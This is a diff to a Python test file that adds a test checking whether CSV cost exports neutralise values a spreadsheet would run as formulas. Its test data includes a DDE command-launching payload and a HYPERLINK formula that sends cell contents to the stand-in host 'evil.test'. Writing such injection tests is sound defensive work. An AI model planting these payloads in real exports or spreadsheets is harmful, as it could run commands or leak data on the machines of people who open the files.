@@ -36,6 +36,14 @@ def _rows(response):
     return list(csv.DictReader(io.StringIO(text)))
 
 
+def _is_number(value: str) -> bool:
+    try:
+        Decimal(value)
+    except ArithmeticError:
+        return False
+    return True
+
+
 def _parse_time(value: str) -> datetime:
     return datetime.strptime(value, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=UTC)
 
@@ -107,3 +115,26 @@ def test_focus_export_of_an_empty_range_is_just_the_header(client, seeded):
     response = client.get(reverse("focus-export"), {"start": "2025-01-01", "end": "2025-01-31"})
     text = b"".join(response.streaming_content).decode()
     assert text.strip() == ",".join(exports.FOCUS_COLUMNS + exports.EXTENSION_COLUMNS)
+
+
+def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(client, seeded):
+    from controlplane.models import Feature, Team
+
+    Team.objects.filter(slug="growth").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    Feature.objects.filter(slug="email-copy").update(name='=HYPERLINK("http://evil.test/?"&A1,"x")')
+    client.login(username="vp", password="demo-vp-pass")
+    rows = _rows(client.get(reverse("focus-export"), {"start": "2026-11-01", "feature": "email-copy"}))
+    assert rows
+    assert {r["ResourceName"] for r in rows} == {'\'=HYPERLINK("http://evil.test/?"&A1,"x")'}
+    assert {r["SubAccountName"] for r in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    for row in rows:  # numbers (a negative saving) stay numbers; every text cell is safe
+        texts = [v for v in row.values() if v and not _is_number(v)]
+        assert not any(v.startswith(exports.FORMULA_TRIGGERS) for v in texts), row
+    assert [exports.neutralise(v) for v in ("+1", "-x", "\tx", "\rx", "ok", "")] == [
+        "'+1",
+        "'-x",
+        "'\tx",
+        "'\rx",
+        "ok",
+        "",
+    ]
